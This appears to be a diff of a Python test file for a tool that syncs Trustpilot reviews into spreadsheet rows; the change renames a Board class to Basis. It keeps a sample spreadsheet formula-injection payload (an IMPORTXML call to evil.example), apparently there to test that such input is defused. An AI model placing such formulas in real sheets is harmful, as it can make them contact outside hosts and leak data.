@@ -8,7 +8,7 @@ from datetime import timedelta
 from sync.core.cells import Formula, Raw
 from sync.core.records import Review
 from sync.rows import rows
-from sync.rows.board import Board
+from sync.rows.basis import Basis
 from tests.support.records import AS_OF, NOW, SETTINGS, ago, book, by_key, order, review
 
 HOSTILE = '=IMPORTXML("https://evil.example","//a")'
@@ -16,7 +16,7 @@ HOSTILE = '=IMPORTXML("https://evil.example","//a")'
 
 def cells(one: Review, *others: object, **staff: Raw) -> dict[str, object]:
     typed = {"trustpilot": {one.key: staff}}
-    return by_key(rows("trustpilot", Board(book(one, *others, staff=typed), SETTINGS, AS_OF)))[one.key]
+    return by_key(rows("trustpilot", Basis(book(one, *others, staff=typed), SETTINGS, AS_OF)))[one.key]
 
 
 UNKNOWN = (
@@ -94,10 +94,10 @@ def test_a_removed_review_keeps_its_row_for_as_long_as_others() -> None:
     old = review(created_at=ago(days=200), removed_at=ago(days=1))
     assert cells(old)["removed_on"] == ago(days=1)
     kept = [replace(old, removed_at=None), replace(old, id="b" * 24, removed_at=ago(days=61))]
-    assert rows("trustpilot", Board(book(*kept), SETTINGS, AS_OF)) == []
-    assert len(rows("trustpilot", Board(book(*kept), replace(SETTINGS, show_for_days=36_500), AS_OF))) == 2
+    assert rows("trustpilot", Basis(book(*kept), SETTINGS, AS_OF)) == []
+    assert len(rows("trustpilot", Basis(book(*kept), replace(SETTINGS, show_for_days=36_500), AS_OF))) == 2
 
 
 def test_newest_first() -> None:
     older, newer = review("a" * 24, created_at=ago(days=2)), review("b" * 24, created_at=NOW)
-    assert [r.key[-1] for r in rows("trustpilot", Board(book(older, newer), SETTINGS, AS_OF))] == ["b", "a"]
+    assert [r.key[-1] for r in rows("trustpilot", Basis(book(older, newer), SETTINGS, AS_OF))] == ["b", "a"]
